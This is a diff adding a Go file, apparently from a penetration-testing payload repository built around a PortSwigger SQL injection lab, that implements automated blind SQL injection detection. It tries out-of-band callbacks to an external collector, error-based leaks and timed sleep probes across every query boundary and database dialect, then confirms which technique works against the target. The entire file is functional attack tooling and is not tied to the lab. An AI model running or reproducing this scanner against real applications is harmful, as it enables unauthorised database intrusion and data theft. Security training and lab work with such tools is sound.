@@ -0,0 +1,194 @@
+package sqli
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"time"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/oast"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// Detection is a technique that works on a target whose page does not tell a broken
+// query or a false condition apart, with the boundary and dialect it works with.
+type Detection struct {
+	Technique string
+	Boundary  Boundary
+	Database  constant.Database
+}
+
+func (d Detection) String() string {
+	return fmt.Sprintf("%s injection on %s, %s", d.Technique, d.Database.Name, d.Boundary)
+}
+
+// DetectBlind looks for an injection that does not rely on the page, trying every
+// boundary with each candidate dialect. With a collector, out-of-band callbacks are looked
+// for first. Then comes a value leaked in an error message, which costs one request per
+// boundary, and last delays. Delays are probed with a single request per boundary and
+// only a delayed response is confirmed with the calibrated check.
+func DetectBlind(client *utility.HTTPClient, point InjectionPoint, databases []constant.Database, collector *oast.Collector) (Detection, error) {
+	if collector != nil {
+		detection, found, err := detectOOB(client, point, databases, collector)
+		if err != nil || found {
+			return detection, err
+		}
+	}
+
+	baseline, err := measureOriginal(client, point)
+	if err != nil {
+		return Detection{}, err
+	}
+	logger.Debugf("Original response time: %s", baseline)
+
+	detectors := []blindDetector{
+		{TECHNIQUE_ERROR, constant.CAPABILITY_ERROR_LEAK, func(boundary Boundary, db constant.Database) (bool, error) {
+			return DoesErrorBasedVulnerabilityExist(client, point, boundary, db)
+		}},
+		{TECHNIQUE_TIME, constant.CAPABILITY_TIME_DELAY, func(boundary Boundary, db constant.Database) (bool, error) {
+			delayed, err := probeDelay(client, point, boundary, db, baseline)
+			if err != nil || !delayed {
+				return false, err
+			}
+			return DoesTimeBasedVulnerabilityExist(client, point, boundary, db)
+		}},
+	}
+
+	var techniques []string
+	if collector != nil {
+		techniques = append(techniques, TECHNIQUE_OOB)
+	}
+	for _, detector := range detectors {
+		techniques = append(techniques, detector.technique)
+		for _, db := range databases {
+			if !db.Supports(detector.capability) {
+				continue
+			}
+			for _, boundary := range blindBoundaries(db) {
+				works, err := detector.detect(boundary, db)
+				if err != nil {
+					return Detection{}, err
+				}
+				if works {
+					return Detection{Technique: detector.technique, Boundary: boundary, Database: db}, nil
+				}
+			}
+		}
+	}
+	return Detection{}, fmt.Errorf("no %s injection found for %d dialects", strings.Join(techniques, " or "), len(databases))
+}
+
+// blindDetector checks whether its technique works through a boundary with a dialect.
+type blindDetector struct {
+	technique  string
+	capability constant.Capability // Dialects without it are skipped
+	detect     func(boundary Boundary, db constant.Database) (bool, error)
+}
+
+// ConfirmDetection checks that a detection found by an earlier run still works. Out-of-band
+// detections need the collector and are not confirmed without one.
+func ConfirmDetection(client *utility.HTTPClient, point InjectionPoint, detection Detection, collector *oast.Collector) (bool, error) {
+	switch detection.Technique {
+	case TECHNIQUE_OOB:
+		if collector == nil {
+			return false, nil
+		}
+		return DoesOOBVulnerabilityExist(client, point, detection.Boundary, detection.Database, collector)
+	case TECHNIQUE_ERROR:
+		return DoesErrorBasedVulnerabilityExist(client, point, detection.Boundary, detection.Database)
+	case TECHNIQUE_TIME:
+		return DoesTimeBasedVulnerabilityExist(client, point, detection.Boundary, detection.Database)
+	}
+	return false, fmt.Errorf("unknown detection technique %q", detection.Technique)
+}
+
+// detectOOB sends the out-of-band test payload through every boundary of every dialect
+// before waiting, so all of them share one timeout instead of waiting for each in turn.
+func detectOOB(client *utility.HTTPClient, point InjectionPoint, databases []constant.Database, collector *oast.Collector) (Detection, bool, error) {
+	type probed struct {
+		token     string
+		detection Detection
+	}
+	var probes []probed // In the order the detections are preferred
+	for _, db := range databases {
+		extractor, err := NewOOBExtractor(client, point, Boundary{}, db, collector)
+		if err != nil {
+			continue
+		}
+		for _, boundary := range blindBoundaries(db) {
+			extractor.boundary = boundary
+			probe, err := extractor.send("'" + oobTestValue + "'")
+			if err != nil {
+				return Detection{}, false, err
+			}
+			probes = append(probes, probed{probe.Token, Detection{Technique: TECHNIQUE_OOB, Boundary: boundary, Database: db}})
+		}
+	}
+	if len(probes) == 0 {
+		return Detection{}, false, nil
+	}
+
+	deadline := time.Now().Add(constant.OOB_TIMEOUT_SECONDS * time.Second)
+	for time.Now().Before(deadline) {
+		for _, probe := range probes {
+			for _, interaction := range collector.Interactions(probe.token) {
+				if value, err := decodeCallback(interaction, probe.detection.Database.HexUTF16); err == nil && value == oobTestValue {
+					return probe.detection, true, nil
+				}
+			}
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	logger.Debugf("No out-of-band callback for %d probes within %ds", len(probes), constant.OOB_TIMEOUT_SECONDS)
+	return Detection{}, false, nil
+}
+
+// blindBoundaries lists the distinct prefix and suffix pairs of every context, leaving out
+// comments the dialect does not understand. Blind payloads bring their own operator.
+func blindBoundaries(db constant.Database) []Boundary {
+	var boundaries []Boundary
+	for _, context := range constant.InjectionContexts {
+		for _, candidate := range boundaryCandidates(context) {
+			if candidate.Comment != "" && !slices.Contains(db.Comment, candidate.Comment) {
+				continue
+			}
+			candidate.Operator = constant.LogicalOperators[0]
+			if !slices.Contains(boundaries, candidate) {
+				boundaries = append(boundaries, candidate)
+			}
+		}
+	}
+	return boundaries
+}
+
+// measureOriginal returns the slowest of a few responses to the original request.
+func measureOriginal(client *utility.HTTPClient, point InjectionPoint) (time.Duration, error) {
+	var slowest time.Duration
+	for range constant.BLIND_DETECTION_SAMPLES {
+		response, elapsed, err := sendTimedPayload(client, point, "")
+		if err != nil {
+			return 0, err
+		}
+		utility.SafeClose(response.Body)
+		slowest = max(slowest, elapsed)
+	}
+	return slowest, nil
+}
+
+// probeDelay sends a sleep that always runs and reports whether the response took at least
+// half of the delay longer than the original request.
+func probeDelay(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database, baseline time.Duration) (bool, error) {
+	payload := boundary.Inject(fmt.Sprintf(db.TimeDelayPayload, "1=1", constant.TIME_DELAY_SECONDS), db)
+	response, elapsed, err := sendTimedPayload(client, point, payload)
+	if err != nil {
+		return false, err
+	}
+	utility.SafeClose(response.Body)
+	delayed := elapsed >= baseline+constant.TIME_DELAY_SECONDS*time.Second/2
+	if delayed {
+		logger.Debugf("%s delay probe took %s with %s", db.Name, elapsed, boundary)
+	}
+	return delayed, nil
+}